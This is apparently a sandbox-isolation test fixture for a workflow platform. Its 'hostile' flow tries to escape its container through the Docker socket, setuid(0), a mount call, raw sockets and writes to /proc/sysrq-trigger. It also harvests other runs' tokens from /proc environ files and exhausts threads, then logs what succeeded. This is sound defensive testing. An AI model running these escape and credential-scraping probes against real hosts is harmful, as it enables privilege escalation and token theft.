"""A flow that tries to leave its container. It logs what it reached; the test says what that may be."""

from __future__ import annotations

import ctypes
import gc
import http.client
import json
import os
import re
import socket
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from appliance import DockerRun, Flow, Parameter, get_logger, task

PIDS = 64


def reached(attempts: dict[str, Callable[[], Any]]) -> list[str]:
    """The names of those that were not refused."""
    found = []
    for name, attempt in attempts.items():
        try:
            attempt()
        except (OSError, ValueError):
            continue
        found.append(name)
    return found


def own_token() -> str:
    """The token of this run, which is somewhere in the memory of its process."""
    (token,) = {str(it._token) for it in gc.get_objects() if type(it).__name__ == "Transport"} - {""}
    return token


def ask(url: str, token: str, method: str, path: str, body: str) -> int:
    """The status of the server's answer."""
    parts = urlsplit(url)
    connection = http.client.HTTPConnection(str(parts.hostname), parts.port, timeout=20)
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    connection.request(method, path, body.encode() if method != "GET" else None, headers)
    status = connection.getresponse().status
    connection.close()
    return status


def environs() -> bytes:
    """What can be read of the environments and files of all processes that are to be seen."""
    content = []
    for place in [*Path("/proc").glob("[0-9]*/environ"), *Path("/var/lib/appliance-run").rglob("*")]:
        try:
            content.append(place.read_bytes())
        except OSError:
            continue
    return b"\n".join(content)


def connect(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as door:
        door.connect(path)


def mount() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) != 0:
        raise OSError(ctypes.get_errno(), "mount")


def threads() -> int:
    """How many processes and threads there can be."""
    gate, made = threading.Event(), []
    try:
        for _ in range(10 * PIDS):
            made.append(threading.Thread(target=gate.wait))
            made[-1].start()
    except RuntimeError:
        made.pop()
    gate.set()
    for thread in made:
        thread.join()
    return len(made)


@task
def attack(site: dict[str, Any]) -> None:
    token, files = own_token(), site["files"]
    report = {
        "reached": reached(
            {
                **{path: Path(path).stat for path in files},
                "the engine": lambda: connect("/var/run/docker.sock"),
                "root": lambda: os.setuid(0),
                "a mount": mount,
                "raw packets": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close(),
                "the kernel": lambda: Path("/proc/sysrq-trigger").write_text("h"),
            }
        ),
        "tokens": sorted(
            {found.decode() for found in re.findall(rb"apl_(?:agent|user|run)_[\w-]+", environs())} - {token}
        ),
        "hosts": os.getpid() > 100 or len(list(Path("/proc").glob("[0-9]*"))) > 20,
        "answered": [call for call in site["calls"] if ask(site["url"], token, *call) < 400],
        "threads": threads(),
    }
    get_logger().info(json.dumps(report))


@task
def wait() -> None:
    get_logger().info("waiting")
    threading.Event().wait(120)


with Flow("hostile", run_config=DockerRun(pids=PIDS)) as hostile:
    attack(Parameter("site"))

with Flow("victim") as victim:
    wait()
